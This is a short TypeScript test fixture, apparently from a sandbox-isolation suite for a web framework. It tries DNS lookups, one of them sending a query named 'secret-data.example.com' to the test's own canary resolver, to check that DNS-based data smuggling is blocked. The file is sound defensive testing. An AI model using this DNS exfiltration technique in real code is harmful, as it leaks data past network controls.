/**
 * Attack: DNS as a way out: dns.lookup of a public name (the system resolver), and a DNS query
 * sent to a resolver of our choosing on the host (the test's canary, which listens on UDP too),
 * the classic route for smuggling data out in query names. Prints "LEAKED:" on an answer.
 * Must happen: no query reaches the canary, no name resolves; the report is fail or error.
 */
import { Vial } from "vial";
import { canary } from "./canary";

export const app = new Vial();

app.get("/", async () => {
  const dns = typeof process !== "undefined" ? process.getBuiltinModule?.("dns") : undefined;
  if (dns) {
    try {
      const found = await dns.promises.lookup("registry.npmjs.org");
      console.log(`LEAKED: dns.lookup answered ${found.address}`);
    } catch {
      // Refused.
    }
    try {
      const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 });
      resolver.setServers([`${canary.host}:${canary.port}`]);
      const found = await resolver.resolve4("secret-data.example.com");
      console.log(`LEAKED: the chosen resolver answered ${found.join(",")}`);
    } catch {
      // Refused, or no answer.
    }
  }
  return "Hello, Vial!";
});
